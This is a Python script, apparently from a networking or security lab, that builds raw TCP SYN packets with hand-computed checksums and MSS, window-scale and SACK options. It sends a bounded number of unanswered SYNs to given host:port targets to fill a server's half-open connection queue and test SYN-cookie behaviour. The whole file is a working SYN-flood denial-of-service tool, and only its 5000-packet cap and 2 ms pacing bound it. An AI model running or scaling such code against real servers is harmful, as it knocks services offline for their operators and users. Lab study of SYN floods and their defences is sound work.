#!/usr/bin/env python3
"""flood.py COUNT HOST:PORT...: COUNT bare SYNs to each HOST:PORT, 2 ms apart, from this host's own address, from
source ports 20000 on, none answered (the lab's firewall drops the SYN-ACKs before this host's kernel sees them, so
it sends no RST that would free the server's queue). Each SYN offers MSS 1460, window scale 7 and SACK, and no
timestamps: a SYN cookie has room for the MSS only, unless a timestamp carries the rest.

A raw IPv4 socket (NET_RAW, this lab's attacker alone has it): the kernel adds the IP header, this program writes
the TCP header and its checksum. Bounded: COUNT SYNs per target, at most 5000, then it exits."""
import random
import socket
import struct
import sys
import time

PACE = 0.002  # seconds between SYNs: a burst the captures keep up with on a busy machine (unpaced, tcpdump lost some)
OPTIONS = bytes([2, 4, 0x05, 0xB4,  # MSS 1460
                 1, 3, 3, 7,        # NOP, window scale 7
                 1, 1, 4, 2])       # NOP, NOP, SACK permitted


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    offset = (20 + len(OPTIONS)) // 4
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0) + OPTIONS
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    return header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]


def main() -> None:
    count = int(sys.argv[1])
    if not 1 <= count <= 5000 or len(sys.argv) < 3:
        sys.exit("usage: flood.py COUNT(1-5000) HOST:PORT...")
    rng = random.Random(7)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    for target in sys.argv[2:]:
        host, port = target.rsplit(":", 1)
        dst = socket.gethostbyname(host)
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        probe.connect((dst, 9))
        src = probe.getsockname()[0]
        probe.close()
        started = time.monotonic()
        for i in range(count):
            raw.sendto(syn(src, dst, 20000 + i, int(port), rng.getrandbits(32)), (dst, 0))
            time.sleep(PACE)
        print(f"sent {count} SYNs to {host} ({dst}) port {port} in {time.monotonic() - started:.3f} s", flush=True)


if __name__ == "__main__":
    main()
